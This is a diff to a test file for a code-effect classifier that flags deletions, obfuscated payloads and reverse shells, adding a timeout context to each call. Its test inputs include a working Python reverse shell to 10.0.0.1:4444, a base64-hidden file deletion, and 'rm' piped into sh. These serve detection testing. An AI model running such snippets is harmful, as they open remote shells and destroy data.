@@ -8,6 +8,8 @@ from classifiers.code.library import library
 from classifiers.context import Context
 from classifiers.effects import OpaqueReason
 
+PATIENT = Context(max_ms=5_000)  # a collection of garbage may take 50 ms
+
 
 def short(action):
     return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]
@@ -53,7 +55,7 @@ CASES = [
 
 @pytest.mark.parametrize(("text", "expected"), CASES, ids=[c[0][:50] for c in CASES])
 def test_a_program_has_the_effects_of_its_calls(text, expected):
-    action = classify_code(text, "python")
+    action = classify_code(text, "python", PATIENT)
     assert short(action) == expected
     assert action.complete
 
@@ -69,14 +71,14 @@ OPAQUE = [
 
 @pytest.mark.parametrize(("text", "reason"), OPAQUE, ids=[c[0][:40] for c in OPAQUE])
 def test_what_cannot_be_read_is_said(text, reason):
-    action = classify_code(text, "python")
+    action = classify_code(text, "python", PATIENT)
     assert reason in [o.reason for o in action.opaque]
     assert action.destructive is None
 
 
 def test_a_decoded_payload_says_so():
     text = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgiL3Nydi9hIik='))"
-    (effect,) = classify_code(text, "python").effects
+    (effect,) = classify_code(text, "python", PATIENT).effects
     assert (effect.target, effect.certainty) == ("/srv/a", "decoded")
 
 
@@ -96,7 +98,7 @@ def test_a_socket_joined_to_a_shell_is_a_reverse_shell():
     text = (
         "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')"
     )
-    action = classify_code(text, "python")
+    action = classify_code(text, "python", PATIENT)
     assert "reverse_shell" in [t for e in action.effects for t in e.tags]
     assert "10.0.0.1:4444" in [e.target for e in action.effects]
 
@@ -108,7 +110,7 @@ def test_relative_paths_start_at_the_cwd():
 
 def test_positions_are_code_points_of_the_text():
     text = "s = 'žluťoučký'; import os; os.remove('/srv/a')"
-    (effect,) = classify_code(text, "python").effects
+    (effect,) = classify_code(text, "python", PATIENT).effects
     assert text[effect.evidence.start : effect.evidence.end] == "os.remove('/srv/a')"
 
 
@@ -166,7 +168,7 @@ def test_a_table_of_calls_is_readable(language):
     "import subprocess\nsubprocess.run('sh', input='rm /srv/a', text=True)",
 ])  # fmt: skip
 def test_a_function_that_is_handed_on_or_found_by_name_is_called(text):
-    action = classify_code(text, "python")
+    action = classify_code(text, "python", PATIENT)
     assert [(e.action, e.target) for e in action.effects] == [("delete", "/srv/a")]
     assert action.complete
 
@@ -177,4 +179,4 @@ def test_an_interpreter_that_is_fed_by_a_pipe_is_not_read():
 
 def test_a_field_that_differs_between_objects_is_an_unknown_target():
     text = "import os\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        os.remove(self.p)\na = A('/x')\nb = A('/y')\na.go()"
-    assert [e.target for e in classify_code(text, "python").effects] == [None]
+    assert [e.target for e in classify_code(text, "python", PATIENT).effects] == [None]
